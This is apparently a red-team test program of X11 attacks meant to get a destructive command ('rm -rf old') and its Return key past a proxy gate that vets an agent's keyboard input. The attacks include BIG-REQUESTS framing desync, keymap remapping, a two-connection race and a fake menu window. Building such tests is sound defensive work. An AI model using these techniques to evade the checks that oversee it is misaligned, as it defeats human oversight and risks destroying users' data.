"""An agent that tries to get past the gate; a program of its own, `python hostile.py ATTACK`, on its own DISPLAY."""

from __future__ import annotations

import socket
import struct
import sys
from typing import TYPE_CHECKING, NoReturn

from Xlib import XK, X
from Xlib.display import Display
from Xlib.ext import xtest

if TYPE_CHECKING:
    from collections.abc import Callable

COMMAND = "rm -rf old"
SPARE, SHIFT, ENTER = 250, 50, 36
X_REPLY = 1


class Agent:
    """One connection, and the few gestures it needs."""

    def __init__(self) -> None:
        self.display = Display()

    def opcode(self, extension: str) -> int:
        """Give the number of an extension."""
        found = self.display.query_extension(extension)
        return int(found.major_opcode) if found is not None else 0

    def raw(self, data: bytes) -> NoReturn:
        """Write bytes that the library knows nothing of, wait until they are through, and end."""
        self.display.sync()
        connection = self.display.display.socket
        connection.sendall(data + struct.pack("<BBH", 43, 0, 1))
        while connection.recv(32, socket.MSG_WAITALL)[:1] not in (b"", bytes([X_REPLY])):
            pass
        raise SystemExit(0)

    def tap(self, keycode: int) -> None:
        """Press and release a key by its code."""
        xtest.fake_input(self.display, X.KeyPress, keycode)
        xtest.fake_input(self.display, X.KeyRelease, keycode)
        self.display.sync()

    def type(self, text: str) -> None:
        """Type lower case letters, blanks and dashes."""
        for sign in text:
            name = {" ": "space", "-": "minus"}.get(sign, sign)
            self.tap(self.display.keysym_to_keycode(XK.string_to_keysym(name)))


def fake_key(agent: Agent, kind: int, keycode: int) -> bytes:
    """Give a FakeInput of a key as bytes."""
    opcode = agent.opcode("XTEST")
    return struct.pack("<BBHBBxxIIxxxxxxxxhhxxxxxxxB", opcode, 2, 9, kind, keycode, 0, 0, 0, 0, 0)


def framing(agent: Agent) -> None:
    """Press a key inside a request that the proxy takes for one long one and the server for many."""
    big = agent.opcode("BIG-REQUESTS")
    # The server refuses an enabling of this length; a request of length 0 is one unit to it then.
    data = struct.pack("<BBHI", big, 0, 2, 0) + struct.pack("<BBHI", 127, 0, 0, 0x10000)
    data += fake_key(agent, X.KeyPress, 38) + fake_key(agent, X.KeyRelease, 38)
    agent.raw(data + struct.pack("<BBH", 127, 0, 1) * 0x10000)


def refused_map(agent: Agent) -> None:
    """Say that Return means nothing from now on, in a way that the server refuses."""
    agent.type(COMMAND)
    data = struct.pack("<BBHBBH", 100, 1, 2, ENTER, 0, 0)
    data += fake_key(agent, X.KeyPress, ENTER) + fake_key(agent, X.KeyRelease, ENTER)
    agent.raw(data)


def shift_is_return(agent: Agent) -> None:
    """Make Return of a key that is a modifier by its place in the modifier map."""
    agent.type(COMMAND)
    before = agent.display.get_keyboard_mapping(SHIFT, 1)
    agent.display.change_keyboard_mapping(SHIFT, [[XK.XK_Return] * 4])
    agent.display.sync()
    agent.tap(SHIFT)
    agent.display.change_keyboard_mapping(SHIFT, before)
    agent.display.sync()


def control_sign(agent: Agent) -> None:
    """Make a carriage return of a spare key, by the keysym of that number."""
    agent.type(COMMAND)
    agent.display.change_keyboard_mapping(SPARE, [[0x0D, 0x0D]])
    agent.display.sync()
    agent.tap(SPARE)
    agent.display.change_keyboard_mapping(SPARE, [[0, 0]])
    agent.display.sync()


def other_map(agent: Agent) -> None:
    """Make Return of a harmless key from another connection, while its press is on its way."""
    agent.type(COMMAND)
    agent.display.change_keyboard_mapping(SPARE, [[XK.XK_F9] * 2])
    agent.display.sync()
    other = Agent()
    xtest.fake_input(agent.display, X.KeyPress, SPARE)
    xtest.fake_input(agent.display, X.KeyRelease, SPARE)
    agent.display.flush()
    other.display.change_keyboard_mapping(SPARE, [[XK.XK_Return] * 2])
    other.display.sync()
    agent.display.sync()
    other.display.change_keyboard_mapping(SPARE, [[0, 0]])
    other.display.sync()


def false_menu(agent: Agent) -> None:
    """Show a menu that has no keyboard, so that keys are judged by it and go elsewhere."""
    agent.type(COMMAND)
    root = agent.display.screen().root
    menu = root.create_window(0, 0, 1, 1, 0, X.CopyFromParent, override_redirect=True)
    kind = agent.display.intern_atom("_NET_WM_WINDOW_TYPE")
    menu.change_property(kind, 4, 32, [agent.display.intern_atom("_NET_WM_WINDOW_TYPE_MENU")])
    menu.set_wm_class("gedit", "gedit")
    menu.map()
    agent.display.sync()
    agent.tap(agent.display.keysym_to_keycode(XK.XK_Return))


def first_half(agent: Agent) -> None:
    """Type a command and leave it."""
    agent.type(COMMAND)


def second_half(agent: Agent) -> None:
    """Press Return."""
    agent.tap(agent.display.keysym_to_keycode(XK.XK_Return))


def clear(agent: Agent) -> None:
    """Throw a line in a terminal away."""
    control = agent.display.keysym_to_keycode(XK.XK_Control_L)
    xtest.fake_input(agent.display, X.KeyPress, control)
    agent.tap(agent.display.keysym_to_keycode(XK.XK_c))
    xtest.fake_input(agent.display, X.KeyRelease, control)
    agent.display.sync()


ATTACKS: dict[str, Callable[[Agent], None]] = {
    "framing": framing,
    "refused-map": refused_map,
    "shift-is-return": shift_is_return,
    "control-sign": control_sign,
    "other-map": other_map,
    "false-menu": false_menu,
    "first-half": first_half,
    "second-half": second_half,
    "clear": clear,
}

if __name__ == "__main__":
    me = Agent()
    ATTACKS[sys.argv[1]](me)
    me.display.sync()
